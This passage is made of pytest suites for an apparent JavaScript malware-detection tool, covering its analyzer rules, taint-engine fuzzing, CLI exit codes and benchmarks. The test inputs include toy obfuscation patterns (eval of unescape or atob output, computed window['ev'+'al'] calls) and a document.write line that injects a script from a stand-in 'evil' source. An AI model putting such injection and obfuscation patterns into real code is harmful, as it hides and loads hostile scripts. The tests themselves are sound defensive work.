        assert findings_for("setInterval('a' + b, 50);", "timer-string-arg")

    def test_function_argument_clean(self):
        assert not findings_for("setTimeout(function () { go(); }, 100);", "timer-string-arg")


class TestDecodeChain:
    def test_direct_nesting(self):
        (f,) = findings_for('eval(unescape("%61%6c%65"));', "decode-chain")
        assert f.decisive and f.severity == "error"

    def test_via_variable(self):
        src = 'var p = unescape("%62%61%64"); eval(p);'
        assert findings_for(src, "decode-chain")

    def test_multi_hop_copy(self):
        src = 'var s = unescape("%64%6f"); var t = s; var u = t + "()"; eval(u);'
        assert findings_for(src, "decode-chain")

    def test_from_char_code_into_function(self):
        src = "var body = String.fromCharCode(97, 98); var fn = new Function(body); fn();"
        assert findings_for(src, "decode-chain")

    def test_unconnected_decode_and_eval_clean(self):
        # Decode output never reaches the sink: no chain.
        src = 'var a = unescape("%61"); log(a); eval("1");'
        assert not findings_for(src, "decode-chain")

    def test_report_is_decisive(self):
        report = analyze_source('eval(atob("YWxlcnQoMSk="));')
        assert report.decisive


class TestHighEntropyLiteral:
    def test_long_random_blob(self):
        blob = "kJ8#pQ2$mN9@xR4!vB7%wC1&zD5*eF3^gH6~aT0qLsYuIoPdZ"
        assert findings_for(f'var k = "{blob}";', "high-entropy-literal")

    def test_short_string_clean(self):
        assert not findings_for('var k = "Zx9#";', "high-entropy-literal")

    def test_long_prose_clean(self):
        prose = "this is a perfectly ordinary sentence about nothing at all here"
        assert not findings_for(f'var msg = "{prose}";', "high-entropy-literal")


class TestEscapedStringSoup:
    def test_hex_escape_soup(self):
        src = 'var s = "\\x68\\x65\\x6c\\x6c\\x6f\\x21\\x21";'
        assert findings_for(src, "escaped-string-soup")

    def test_few_escapes_clean(self):
        assert not findings_for('var s = "line one\\nline two with words";', "escaped-string-soup")


class TestSuspiciousGlobalBracket:
    def test_window_computed(self):
        assert findings_for('window["ev" + "al"]("x");', "suspicious-global-bracket")

    def test_document_computed(self):
        assert findings_for("document[cmd]();", "suspicious-global-bracket")

    def test_numeric_index_clean(self):
        assert not findings_for("var first = window[0];", "suspicious-global-bracket")

    def test_dot_access_clean(self):
        assert not findings_for("window.alert('hi');", "suspicious-global-bracket")


class TestDocumentWrite:
    def test_document_write(self):
        assert findings_for('document.write("<script src=evil>");', "document-write")

    def test_writeln(self):
        assert findings_for('document.writeln("x");', "document-write")


class TestUseBeforeDef:
    def test_var_used_before_assignment(self):
        src = "log(x); var x = 1;"
        (f,) = findings_for(src, "use-before-def")
        assert "x" in f.message

    def test_defined_first_clean(self):
        assert not findings_for("var x = 1; log(x);", "use-before-def")

    def test_function_hoisting_clean(self):
        assert not findings_for("go(); function go() { return 1; }", "use-before-def")


class TestWriteOnlyVariable:
    def test_assigned_never_read(self):
        (f,) = findings_for("var unused = compute();", "write-only-variable")
        assert f.severity == "info"

    def test_read_variable_clean(self):
        assert not findings_for("var used = 1; log(used);", "write-only-variable")


class TestUnreachableCode:
    def test_statement_after_return(self):
        src = "function f() { return 1; log('never'); }"
        assert findings_for(src, "unreachable-code")

    def test_one_finding_per_dead_block(self):
        src = "function f() { return 1; a(); b(); c(); }"
        assert len(findings_for(src, "unreachable-code")) == 1

    def test_function_decl_after_return_clean(self):
        # Hoisted declarations are reachable even after a return.
        src = "function f() { return g(); function g() { return 1; } }"
        assert not findings_for(src, "unreachable-code")

    def test_straight_line_clean(self):
        assert not findings_for("var a = 1; var b = a + 1;", "unreachable-code")


class TestWithStatement:
    def test_with(self):
        assert findings_for("with (obj) { go(); }", "with-statement")


class TestDeepNesting:
    def test_ternary_chain(self):
        src = "var v = a ? 1 : b ? 2 : c ? 3 : d ? 4 : 5;"
        assert len(findings_for(src, "deep-nesting")) == 1

    def test_long_comma_chain(self):
        src = "var v = (a = 1, b = 2, c = 3, d = 4, e = 5, f = 6);"
        assert findings_for(src, "deep-nesting")

    def test_single_ternary_clean(self):
        assert not findings_for("var v = a ? 1 : 2;", "deep-nesting")


class TestDebuggerStatement:
    def test_debugger(self):
        (f,) = findings_for("debugger;", "debugger-statement")
        assert f.severity == "info"


class TestFindingShape:
    def test_spans_point_at_source(self):
        report = analyze_source("var a = 1;\nlog(a);\neval(code);\n")
        (f,) = report.findings
        assert (f.line, f.rule_id) == (3, "dynamic-eval")
        assert "eval(code)" in f.evidence

    def test_findings_sorted_by_position(self):
        src = "debugger;\neval(a);\nwith (o) {}\n"
        lines = [f.line for f in analyze_source(src).findings]
        assert lines == sorted(lines)
