"""Property-based robustness for the taint engine.

Two invariants, fuzzed over generated scripts, corpus mutations, and the
obfuscated example set:

* ``run_taint`` **never raises** — any input that parses produces a
  ``TaintResult`` (possibly degraded, never an exception);
* the worklist **terminates within its budget** — ``transfers`` stays at
  or near ``max_transfers`` (the per-statement check can overshoot by at
  most one inner pass) and the engine returns rather than spinning.
"""

from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis import Analyzer
from repro.analysis.dataflow import run_taint
from repro.datasets import generate_benign, generate_malicious
from repro.jsparser import JSSyntaxError, parse

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
CORPUS = sorted((EXAMPLES / "corpus").glob("*.js")) + sorted(
    (EXAMPLES / "obfuscated").glob("*.js")
)

#: Snippets spliced into corpus files to steer mutations toward the
#: source/sink/propagator surface the engine actually exercises.
INJECTIONS = (
    "var __t = atob(__u);\n",
    "eval(__t);\n",
    "window[__k](__t);\n",
    "el.innerHTML = __t + __t;\n",
    "setTimeout(__t, 1);\n",
    'var __a = ["a", "b", "c", "d"];\n',
    "function __f(x) { return x; }\n__t = __f(__t);\n",
)


def run_checked(source, **kwargs):
    """run_taint on anything that parses; the never-raises contract."""
    try:
        program = parse(source)
    except (JSSyntaxError, RecursionError):
        return None
    result = run_taint(program, **kwargs)
    assert result is not None
    assert isinstance(result.flows, list)
    return result


@settings(max_examples=25, deadline=None)
@given(st.integers(0, 10_000), st.booleans())
def test_generated_scripts_never_raise(seed, malicious):
    gen = generate_malicious if malicious else generate_benign
    result = run_checked(gen(np.random.default_rng(seed)))
    assert result is not None and not result.degraded


@settings(max_examples=25, deadline=None)
@given(
    st.integers(0, len(CORPUS) - 1),
    st.lists(st.integers(0, len(INJECTIONS) - 1), min_size=1, max_size=4),
    st.integers(0, 50),
)
def test_corpus_mutations_never_raise(file_index, picks, cut):
    """Corpus files with taint-relevant statements spliced in (and a
    prefix occasionally truncated at a line boundary) stay in contract."""
    lines = CORPUS[file_index].read_text().splitlines(keepends=True)
    lines = lines[: max(1, len(lines) - cut)]
    for offset, pick in enumerate(picks):
        position = min(len(lines), (pick * 7 + offset * 13) % (len(lines) + 1))
        lines.insert(position, INJECTIONS[pick])
    run_checked("".join(lines))


@settings(max_examples=20, deadline=None)
@given(st.integers(0, 10_000), st.integers(10, 400))
def test_worklist_terminates_within_transfer_budget(seed, budget):
    source = generate_malicious(np.random.default_rng(seed))
    result = run_checked(source, max_transfers=budget)
    assert result is not None
    # The budget is checked per statement transfer; one inner CFG pass of
    # slack is the documented overshoot bound.
    assert result.transfers <= budget + 64


@settings(max_examples=15, deadline=None)
@given(st.integers(2, 12))
def test_mutual_recursion_terminates(depth):
    """A call cycle must converge via the context-depth bound, not spin."""
    parts = [
        f"function f{i}(x) {{ return f{(i + 1) % depth}(x + atob(x)); }}"
        for i in range(depth)
    ]
    parts.append("eval(f0(s));")
    result = run_checked("\n".join(parts))
    assert result is not None and not result.degraded


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: p.name)
def test_obfuscated_and_corpus_files_in_contract(path):
    result = run_checked(path.read_text())
    assert result is not None
    assert not result.degraded, result.error


@pytest.mark.parametrize("path", sorted((EXAMPLES / "obfuscated").glob("*.js")), ids=lambda p: p.name)
def test_analyzer_never_raises_on_obfuscated(path):
    report = Analyzer().analyze(path.read_text(), path.name)
    assert report.parse_ok
