"""Analyzer driver tests: suppression, robustness, scoring, metrics."""

import json

import pytest

from repro.analysis import (
    PARSE_ERROR_RULE_ID,
    AnalysisReport,
    Analyzer,
    Finding,
    Rule,
    analyze_source,
    combine_score,
    severity_at_least,
)
from repro.obs import MetricsRegistry


class TestSuppression:
    def test_trailing_comment_suppresses_own_line(self):
        report = analyze_source("eval(code); // repro-ignore: dynamic-eval\n")
        assert report.n_findings == 0
        assert report.suppressed == 1

    def test_own_line_comment_suppresses_next_line(self):
        src = "// repro-ignore: dynamic-eval\neval(code);\n"
        report = analyze_source(src)
        assert report.n_findings == 0 and report.suppressed == 1

    def test_block_comment_directive(self):
        src = "/* repro-ignore: dynamic-eval */\neval(code);\n"
        assert analyze_source(src).n_findings == 0

    def test_wildcard_suppresses_everything(self):
        src = "eval(unescape('%61')); // repro-ignore: all\n"
        report = analyze_source(src)
        assert report.n_findings == 0
        assert report.suppressed >= 1
        assert not report.decisive  # suppressed decisive findings do not triage

    def test_other_rule_id_does_not_suppress(self):
        src = "eval(code); // repro-ignore: with-statement\n"
        assert [f.rule_id for f in analyze_source(src).findings] == ["dynamic-eval"]

    def test_multiple_ids_comma_separated(self):
        src = "eval(code); debugger; // repro-ignore: dynamic-eval, debugger-statement\n"
        assert analyze_source(src).n_findings == 0

    def test_unrelated_line_still_fires(self):
        src = "// repro-ignore: dynamic-eval\nvar ok = 1;\neval(code);\n"
        assert any(f.rule_id == "dynamic-eval" for f in analyze_source(src).findings)

    def test_suppressed_findings_do_not_score(self):
        clean = analyze_source("eval(code); // repro-ignore: all\n")
        assert clean.score == 0.0


class TestRobustness:
    def test_syntax_error_is_a_structured_finding(self):
        report = analyze_source("var ((((")
        assert not report.parse_ok
        assert report.error
        (f,) = report.findings
        assert f.rule_id == PARSE_ERROR_RULE_ID
        assert f.line >= 1

    def test_non_string_source(self):
        report = Analyzer().analyze(b"bytes not str")  # type: ignore[arg-type]
        assert not report.parse_ok and report.error

    def test_empty_source(self):
        report = analyze_source("")
        assert report.parse_ok and report.n_findings == 0 and report.score == 0.0

    def test_deep_nesting_never_raises(self):
        report = analyze_source("(" * 5000 + "1" + ")" * 5000)
        assert not report.parse_ok

    def test_buggy_rule_is_isolated(self):
        class Exploder(Rule):
            id = "exploder"
            node_types = ("CallExpression",)

            def visit(self, node, ctx):
                raise RuntimeError("boom")

            def finish(self, ctx):
                raise RuntimeError("boom")

        analyzer = Analyzer(rules=[Exploder()])
        report = analyzer.analyze("go(); stop();")
        assert report.parse_ok and report.n_findings == 0
        assert analyzer.rule_errors == 3  # two visits + one finish

    def test_duplicate_rule_ids_rejected(self):
        class A(Rule):
            id = "dup"

        with pytest.raises(ValueError, match="duplicate"):
            Analyzer(rules=[A(), A()])


class TestScoring:
    def test_combine_score_is_noisy_or(self):
        assert combine_score([]) == 0.0
        assert combine_score([0.5]) == pytest.approx(0.5)
        assert combine_score([0.5, 0.5]) == pytest.approx(0.75)
        # individual weights are clamped below 1, so the score never saturates
        assert combine_score([1.0, 0.2]) == pytest.approx(0.9992)

    def test_score_monotone_in_findings(self):
        one = analyze_source("eval(a);").score
        two = analyze_source("eval(a); eval(b);").score
        assert 0.0 < one < two <= 1.0

    def test_severity_ordering_helper(self):
        assert severity_at_least("error", "warning")
        assert severity_at_least("warning", "warning")
        assert not severity_at_least("info", "warning")


class TestReportSerialization:
    def test_round_trip(self):
        report = analyze_source("eval(unescape('%61')); debugger;", name="x.js")
        clone = AnalysisReport.from_json(report.to_json())
        assert clone.name == "x.js"
        assert [f.to_dict() for f in clone.findings] == [f.to_dict() for f in report.findings]
        assert clone.decisive == report.decisive
        assert clone.score == pytest.approx(report.score)

    def test_json_is_plain_data(self):
        payload = json.loads(analyze_source("with (o) {}").to_json())
        assert payload["n_findings"] == 1
        assert payload["findings"][0]["rule_id"] == "with-statement"

    def test_finding_format_line(self):
        f = Finding("dynamic-eval", "error", 3, 4, "msg", evidence="eval(x)")
        assert Finding.from_dict(f.to_dict()) == f
        assert "a.js:3:4" in f.format("a.js")

    def test_count_by_severity(self):
        report = analyze_source("eval(a); debugger; with (o) {}")
        counts = report.count_by_severity()
        assert counts["error"] == 1 and counts["info"] == 1 and counts["warning"] == 1
        assert report.max_severity() == "error"


class TestMetrics:
    def test_per_rule_counters_preregistered_and_counted(self):
        metrics = MetricsRegistry()
        analyzer = Analyzer(metrics=metrics)
        analyzer.analyze("eval(a);")
        rendered = metrics.render()
        assert 'repro_analysis_findings_total{rule="dynamic-eval"} 1' in rendered
        # never-fired rules still expose a zero sample
        assert 'repro_analysis_findings_total{rule="with-statement"} 0' in rendered
        assert "repro_analysis_scripts_total 1" in rendered

    def test_parse_error_counter(self):
        metrics = MetricsRegistry()
        Analyzer(metrics=metrics).analyze("var ((((")
        assert 'repro_analysis_findings_total{rule="parse-error"} 1' in metrics.render()


class TestBatch:
    def test_analyze_batch_names(self):
        reports = Analyzer().analyze_batch(["eval(a);", "var x = 1; log(x);"], names=["a", "b"])
        assert [r.name for r in reports] == ["a", "b"]
        assert reports[0].n_findings == 1 and reports[1].n_findings == 0

    def test_shared_analyzer_has_no_cross_script_state(self):
        analyzer = Analyzer()
        first = analyzer.analyze("eval(unescape('%61'));")
        clean = analyzer.analyze("var x = 1; log(x);")
        again = analyzer.analyze("eval(unescape('%61'));")
        assert first.decisive and again.decisive
        assert clean.n_findings == 0
        assert first.n_findings == again.n_findings
