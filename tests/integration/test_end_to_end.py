"""Cross-module integration tests: the full pipeline end to end."""

import numpy as np
import pytest

from repro import JSRevealer, JSRevealerConfig
from repro.baselines import ALL_BASELINES
from repro.datasets import experiment_split, generate_benign, generate_malicious
from repro.jsparser import parse
from repro.ml import accuracy, f1_score
from repro.obfuscation import ALL_OBFUSCATORS, Minifier, WildObfuscator


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=11, pretrain_per_class=15, train_per_class=40, test_per_class=15, realistic=True)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=32, pretrain_epochs=8, k_benign=6, k_malicious=6, seed=11))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


class TestFullPipeline:
    def test_detection_on_realistic_corpus(self, detector, split):
        predictions = detector.predict(split.test.sources)
        assert accuracy(split.test.label_array, predictions) >= 0.85

    def test_survives_every_obfuscator(self, detector, split):
        """Predictions complete and remain better than chance under every
        obfuscator — the end-to-end robustness property."""
        for name, cls in ALL_OBFUSCATORS.items():
            corpus = split.test.obfuscated(cls(seed=42))
            predictions = detector.predict(corpus.sources)
            assert predictions.shape == (len(corpus),), name
            assert accuracy(corpus.label_array, predictions) >= 0.5, name

    def test_minified_benign_not_mass_flagged(self, detector, split):
        benign_sources = [s for s, y in zip(split.test.sources, split.test.labels) if y == 0]
        minified = [Minifier(seed=1).obfuscate(s) for s in benign_sources]
        predictions = detector.predict(minified)
        assert predictions.mean() <= 0.5  # most minified benign stays benign

    def test_explanations_reference_real_clusters(self, detector):
        explanations = detector.explain(top_n=4)
        centers = detector.feature_extractor.features_
        assert all(any(e.central_path_signature == f.central_path_signature for f in centers) for e in explanations)


class TestObfuscationPipelineIntegrity:
    """Every obfuscator output must flow through the whole analysis stack."""

    @pytest.mark.parametrize("obf_name", list(ALL_OBFUSCATORS))
    def test_obfuscated_output_fully_analyzable(self, obf_name):
        from repro.dataflow import build_enhanced_ast, build_pdg
        from repro.paths import extract_paths

        source = generate_malicious(np.random.default_rng(5))
        obfuscated = ALL_OBFUSCATORS[obf_name](seed=5).obfuscate(source)
        program = parse(obfuscated)
        enhanced = build_enhanced_ast(program)
        assert enhanced.parent_of  # analysis ran
        build_pdg(parse(obfuscated))
        paths = extract_paths(obfuscated)
        assert paths  # obfuscated code still yields path contexts

    def test_double_obfuscation_still_analyzable(self):
        source = generate_benign(np.random.default_rng(6))
        first = WildObfuscator(seed=1).obfuscate(source)
        second = ALL_OBFUSCATORS["javascript-obfuscator"](seed=2).obfuscate(first)
        assert extract_len(second) > 0


def extract_len(source):
    from repro.paths import extract_paths

    return len(extract_paths(source))


class TestBaselineParity:
    def test_all_detectors_run_same_protocol(self, split):
        """The comparison harness premise: one protocol fits all five."""
        scores = {}
        for name, cls in ALL_BASELINES.items():
            det = cls().fit(split.train.sources, split.train.labels)
            predictions = det.predict(split.test.sources)
            scores[name] = f1_score(split.test.label_array, predictions)
        assert all(score >= 0.6 for score in scores.values()), scores


class TestDeterminism:
    def test_full_pipeline_reproducible(self, split):
        def run():
            det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=3))
            det.pretrain(split.pretrain.sources, split.pretrain.labels)
            det.fit(split.train.sources, split.train.labels)
            return det.predict(split.test.sources)

        assert np.array_equal(run(), run())

    def test_corpus_reproducible_across_processes(self):
        # Generators must not depend on process-level randomness.
        a = generate_malicious(np.random.default_rng(123))
        b = generate_malicious(np.random.default_rng(123))
        assert a == b
