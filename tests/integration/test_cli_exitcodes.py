"""The ``repro scan`` exit-code contract and stdin composition.

The contract (documented in the CLI epilog, grep-style):

* 0 — scan completed, nothing malicious,
* 1 — scan completed, at least one malicious verdict,
* 2 — usage or I/O error (bad flags, no input, unreadable model).

Deterministic 0/1 outcomes come from impossible thresholds: at
``--threshold 1.1`` no probability qualifies; at ``--threshold 0.0``
every probability does.
"""

import io
import json

import pytest

from repro.cli import main
from repro.core import JSRevealer, JSRevealerConfig
from repro.core.persistence import save_detector
from repro.datasets import experiment_split


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory):
    split = experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=2)
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    out = tmp_path_factory.mktemp("model")
    save_detector(det, str(out))
    return str(out)


@pytest.fixture(scope="module")
def script_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("scripts") / "probe.js"
    path.write_text("var total = 0; for (var i = 0; i < 4; i++) { total += i; } console.log(total);")
    return str(path)


class TestExitCodes:
    def test_clean_scan_exits_0(self, model_dir, script_file, capsys):
        assert main(["scan", "--model", model_dir, "--threshold", "1.1", script_file]) == 0
        assert "clean" in capsys.readouterr().out

    def test_malicious_found_exits_1(self, model_dir, script_file, capsys):
        assert main(["scan", "--model", model_dir, "--threshold", "0.0", script_file]) == 1
        assert "MALICIOUS" in capsys.readouterr().out

    def test_bad_workers_exits_2(self, model_dir, script_file, capsys):
        assert main(["scan", "--model", model_dir, "--workers", "0", script_file]) == 2
        assert "--workers" in capsys.readouterr().err

    def test_no_input_exits_2(self, model_dir, tmp_path, capsys):
        assert main(["scan", "--model", model_dir, str(tmp_path / "ghost.js")]) == 2
        assert "no input files" in capsys.readouterr().err

    def test_unreadable_model_exits_2(self, tmp_path, script_file, capsys):
        assert main(["scan", "--model", str(tmp_path / "no_model"), script_file]) == 2
        assert "cannot load model" in capsys.readouterr().err

    def test_input_check_precedes_model_load(self, tmp_path, capsys):
        # No inputs fails fast — before the (expensive, possibly broken)
        # model load is even attempted.
        assert main(["scan", "--model", str(tmp_path / "no_model"), str(tmp_path / "ghost.js")]) == 2
        assert "no input files" in capsys.readouterr().err


class TestStdin:
    def test_dash_reads_script_from_stdin(self, model_dir, monkeypatch, capsys):
        monkeypatch.setattr("sys.stdin", io.StringIO("var x = 1; console.log(x);"))
        code = main(["scan", "--model", model_dir, "--threshold", "1.1", "-"])
        captured = capsys.readouterr()
        assert code == 0
        assert "<stdin>" in captured.out

    def test_stdin_combines_with_files(self, model_dir, script_file, monkeypatch, capsys):
        monkeypatch.setattr("sys.stdin", io.StringIO("var y = 2;"))
        code = main(
            ["scan", "--model", model_dir, "--threshold", "1.1", "--format", "json", script_file, "-"]
        )
        assert code == 0
        report = json.loads(capsys.readouterr().out)
        assert [r["path"] for r in report["results"]] == [script_file, "<stdin>"]

    def test_stdin_json_report_well_formed(self, model_dir, monkeypatch, capsys):
        monkeypatch.setattr("sys.stdin", io.StringIO("function f() { return 42; } f();"))
        code = main(["scan", "--model", model_dir, "--format", "json", "-"])
        assert code in (0, 1)
        report = json.loads(capsys.readouterr().out)
        assert report["n_files"] == 1
        assert report["results"][0]["path"] == "<stdin>"
        assert 0.0 <= report["results"][0]["probability"] <= 1.0


class TestServeUsageErrors:
    def test_bad_serve_config_exits_2(self, model_dir, capsys):
        assert main(["serve", "--model", model_dir, "--max-batch", "0"]) == 2
        assert "max_batch" in capsys.readouterr().err

    def test_serve_unreadable_model_exits_2(self, tmp_path, capsys):
        assert main(["serve", "--model", str(tmp_path / "no_model"), "--port", "0"]) == 2
        assert "cannot load model" in capsys.readouterr().err


@pytest.fixture(scope="module")
def findings_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("analyze") / "sus.js"
    path.write_text("debugger;\neval(payload);\n")
    return str(path)


class TestAnalyzeExitCodes:
    def test_clean_file_exits_0(self, script_file, capsys):
        assert main(["analyze", script_file]) == 0
        assert "0 at/above error" in capsys.readouterr().err

    def test_error_finding_exits_1(self, findings_file, capsys):
        assert main(["analyze", findings_file]) == 1
        assert "dynamic-eval" in capsys.readouterr().out

    def test_fail_on_info_lowers_the_bar(self, tmp_path, capsys):
        path = tmp_path / "dbg.js"
        path.write_text("debugger;\n")
        assert main(["analyze", str(path)]) == 0  # info < default error floor
        assert main(["analyze", "--fail-on", "info", str(path)]) == 1

    def test_suppressed_finding_does_not_fail(self, tmp_path, capsys):
        path = tmp_path / "ok.js"
        path.write_text("eval(code); // repro-ignore: dynamic-eval\n")
        assert main(["analyze", str(path)]) == 0
        assert "1 suppressed" in capsys.readouterr().err

    def test_no_input_exits_2(self, tmp_path, capsys):
        assert main(["analyze", str(tmp_path / "ghost.js")]) == 2
        assert "no input files" in capsys.readouterr().err

    def test_json_format_emits_reports(self, findings_file, capsys):
        assert main(["analyze", "--format", "json", findings_file]) == 1
        payload = json.loads(capsys.readouterr().out)
        assert payload["n_files"] == 1
        assert payload["n_failing"] == 1
        assert len(payload["rules"]) >= 10
        rules = {f["rule_id"] for f in payload["reports"][0]["findings"]}
        assert "dynamic-eval" in rules

    def test_stdin_analysis(self, monkeypatch, capsys):
        monkeypatch.setattr("sys.stdin", io.StringIO("eval(x);"))
        assert main(["analyze", "-"]) == 1
        assert "<stdin>" in capsys.readouterr().out

    def test_syntax_error_is_warning_not_usage_error(self, tmp_path, capsys):
        path = tmp_path / "broken.js"
        path.write_text("var ((((")
        assert main(["analyze", str(path)]) == 0  # parse-error is a warning
        assert main(["analyze", "--fail-on", "warning", str(path)]) == 1
