"""Unit tests for CLI plumbing that needs no trained model."""


import pytest

from repro.cli import _collect_files, build_parser


class TestParser:
    def test_train_defaults(self):
        args = build_parser().parse_args(["train", "--out", "m"])
        assert args.out == "m"
        assert args.k_benign == 11
        assert args.k_malicious == 10

    def test_scan_threshold(self):
        args = build_parser().parse_args(["scan", "--model", "m", "--threshold", "0.8", "a.js"])
        assert args.threshold == 0.8
        assert args.paths == ["a.js"]

    def test_scan_engine_defaults(self):
        args = build_parser().parse_args(["scan", "--model", "m", "a.js"])
        assert args.workers == 1
        assert args.cache_dir is None
        assert args.format == "text"

    def test_scan_engine_flags(self):
        args = build_parser().parse_args(
            ["scan", "--model", "m", "--workers", "4", "--cache-dir", "/tmp/c",
             "--format", "json", "a.js"]
        )
        assert args.workers == 4
        assert args.cache_dir == "/tmp/c"
        assert args.format == "json"

    def test_scan_format_validated(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["scan", "--model", "m", "--format", "xml", "a.js"])

    def test_explain_top(self):
        args = build_parser().parse_args(["explain", "--model", "m", "--top", "9"])
        assert args.top == 9
        assert args.format == "text"

    def test_explain_json_format(self):
        args = build_parser().parse_args(["explain", "--model", "m", "--format", "json"])
        assert args.format == "json"

    def test_command_required(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_scan_accepts_stdin_dash(self):
        args = build_parser().parse_args(["scan", "--model", "m", "-"])
        assert args.paths == ["-"]

    def test_serve_defaults(self):
        args = build_parser().parse_args(["serve", "--model", "m"])
        assert args.host == "127.0.0.1"
        assert args.port == 8077
        assert args.workers == 1
        assert args.max_batch == 8
        assert args.max_wait_ms == 25.0
        assert args.queue_limit == 64
        assert args.cache_dir is None
        assert args.threshold == 0.5
        assert args.request_timeout_s == 30.0
        assert args.shards == 1

    def test_serve_flags(self):
        args = build_parser().parse_args(
            ["serve", "--model", "m", "--host", "0.0.0.0", "--port", "0",
             "--workers", "2", "--max-batch", "16", "--max-wait-ms", "5",
             "--queue-limit", "128", "--cache-dir", "/tmp/c",
             "--threshold", "0.7", "--request-timeout-s", "10"]
        )
        assert args.host == "0.0.0.0"
        assert args.port == 0
        assert args.workers == 2
        assert args.max_batch == 16
        assert args.max_wait_ms == 5.0
        assert args.queue_limit == 128
        assert args.cache_dir == "/tmp/c"
        assert args.threshold == 0.7
        assert args.request_timeout_s == 10.0

    def test_serve_request_timeout_deprecated_alias(self, capsys):
        args = build_parser().parse_args(
            ["serve", "--model", "m", "--request-timeout", "7"]
        )
        assert args.request_timeout_s == 7.0
        assert "deprecated" in capsys.readouterr().err

    def test_serve_request_timeout_alias_hidden_from_help(self):
        serve_help = None
        parser = build_parser()
        for action in parser._subparsers._group_actions[0].choices["serve"]._actions:
            if "--request-timeout" in action.option_strings:
                import argparse
                assert action.help is argparse.SUPPRESS

    def test_cluster_defaults(self):
        args = build_parser().parse_args(["cluster", "--model", "m"])
        assert args.shards == 2
        assert args.port == 8076
        assert args.vnodes == 64
        assert args.request_timeout_s == 30.0
        assert args.cache_dir is None

    def test_serve_model_required(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["serve"])


class TestCollectFiles:
    def test_directory_globs_js(self, tmp_path):
        (tmp_path / "a.js").write_text("var a = 1;")
        (tmp_path / "sub").mkdir()
        (tmp_path / "sub" / "b.js").write_text("var b = 2;")
        (tmp_path / "c.txt").write_text("not js")
        files = _collect_files([str(tmp_path)])
        assert {f.name for f in files} == {"a.js", "b.js"}

    def test_explicit_file_kept(self, tmp_path):
        target = tmp_path / "one.js"
        target.write_text("1;")
        assert _collect_files([str(target)]) == [target]

    def test_missing_path_warns_and_skips(self, tmp_path, capsys):
        files = _collect_files([str(tmp_path / "ghost.js")])
        assert files == []
        assert "not found" in capsys.readouterr().err

    def test_sorted_deterministic(self, tmp_path):
        for name in ("z.js", "a.js", "m.js"):
            (tmp_path / name).write_text(";")
        files = _collect_files([str(tmp_path)])
        assert [f.name for f in files] == ["a.js", "m.js", "z.js"]
