"""Unit tests for the benchmark harness plumbing (no experiments run)."""

import pytest

from repro.bench import (
    ComparisonResult,
    SETTINGS,
    bench_params,
    format_metric_table,
    format_timing_table,
)
from repro.ml import DetectionReport
from repro.pipeline import ScanReport, ScanResult


def make_report(accuracy=90.0, f1=91.0, fpr=5.0, fnr=6.0):
    return DetectionReport(accuracy=accuracy, f1=f1, fpr=fpr, fnr=fnr, precision=92.0, recall=93.0)


@pytest.fixture()
def result():
    r = ComparisonResult(repetitions=2)
    for detector in ("jsrevealer", "cujo"):
        r.reports[detector] = {}
        for i, setting in enumerate(SETTINGS):
            r.reports[detector][setting] = make_report(accuracy=90.0 - i, f1=91.0 - i)
    return r


class TestComparisonResult:
    def test_metric_lookup(self, result):
        assert result.metric("cujo", "baseline", "accuracy") == 90.0
        assert result.metric("cujo", "jshaman", "f1") == 87.0

    def test_average_over_obfuscators_excludes_baseline(self, result):
        # settings 1..4 have accuracy 89, 88, 87, 86 -> mean 87.5
        assert result.average_over_obfuscators("jsrevealer", "accuracy") == pytest.approx(87.5)

    def test_settings_cover_paper_columns(self):
        assert SETTINGS == ("baseline", "javascript-obfuscator", "jfogs", "jsobfu", "jshaman")


class TestFormatting:
    def test_table_contains_all_rows_and_columns(self, result):
        table = format_metric_table(result, "f1", detectors=("cujo", "jsrevealer"), title="T")
        assert table.startswith("T")
        assert "cujo" in table and "jsrevealer" in table
        for setting in SETTINGS:
            assert setting[:12] in table

    def test_missing_detectors_skipped(self, result):
        table = format_metric_table(result, "f1", detectors=("cujo", "nonexistent"))
        assert "nonexistent" not in table

    def test_timing_table_lists_modes_and_stages(self):
        def make_scan_report(extract_ms):
            return ScanReport(
                results=[
                    ScanResult(path="a.js", label=0, probability=0.1, malicious=False,
                               path_count=5, cache_hit=False)
                ],
                elapsed_ms=extract_ms + 10.0,
                stage_ms={"path_extraction": extract_ms, "embedding": 2.0,
                          "feature_transform": 1.0, "classifying": 0.5},
            )

        table = format_timing_table(
            {"sequential": make_scan_report(100.0), "parallel": make_scan_report(60.0)},
            title="Batch engine",
        )
        assert table.startswith("Batch engine")
        assert "sequential" in table and "parallel" in table
        assert "path_extraction" in table and "classifying" in table
        assert "100.0" in table and "60.0" in table


class TestParams:
    def test_env_overrides(self, monkeypatch):
        monkeypatch.setenv("REPRO_BENCH_REPS", "7")
        monkeypatch.setenv("REPRO_BENCH_TRAIN", "33")
        params = bench_params()
        assert params["reps"] == 7
        assert params["train"] == 33

    def test_defaults_present(self):
        params = bench_params()
        assert set(params) == {"reps", "train", "test", "pretrain"}
