"""Statistical tests for the realistic corpus mixture (Sec. IV-A1 analog)."""

import pytest

from repro.datasets import build_corpus, build_realistic_corpus
from repro.jsparser import parse


@pytest.fixture(scope="module")
def corpora():
    plain = build_corpus(120, 120, seed=8)
    realistic = build_realistic_corpus(120, 120, seed=8)
    return plain, realistic


class TestMixtureRates:
    def test_same_labels_and_order(self, corpora):
        plain, realistic = corpora
        assert plain.labels == realistic.labels
        assert plain.families == realistic.families

    def test_roughly_half_of_malicious_transformed(self, corpora):
        plain, realistic = corpora
        changed = sum(
            1
            for p, r, y in zip(plain.sources, realistic.sources, plain.labels)
